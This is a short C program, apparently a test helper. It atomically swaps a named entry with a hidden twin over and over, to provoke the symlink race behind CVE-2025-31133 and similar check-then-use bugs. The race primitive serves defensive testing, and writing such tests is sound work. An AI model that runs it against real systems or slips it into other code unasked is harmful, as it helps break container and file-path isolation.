/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* swapper ROOT NAME...: exchanges ROOT/NAME with ROOT/.NAME, in one step, over and over until it is killed or
 * standard input ends. With a directory at one and a link to the outside at the other, it is the root that
 * changes between a look and a step (CVE-2025-31133 and its kin). */

#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
        struct pollfd in = { .fd = 0, .events = POLLIN };
        int root = argc > 2 ? open(argv[1], O_RDONLY | O_DIRECTORY) : -1;
        unsigned long n = 0;

        if (root < 0)
                return 2;
        while (n % 64 != 0 || poll(&in, 1, 0) == 0) {
                char aside[64];
                const char *name = argv[2 + n++ % (unsigned long) (argc - 2)];
                snprintf(aside, sizeof(aside), ".%.60s", name);
                if (renameat2(root, name, root, aside, RENAME_EXCHANGE) < 0) {
                        perror(name);
                        return 1;
                }
                if (n % 8 == 0)
                        (void) usleep(20);      /* others start it, and need the CPU */
        }
        printf("%lu\n", n);
        return 0;
}
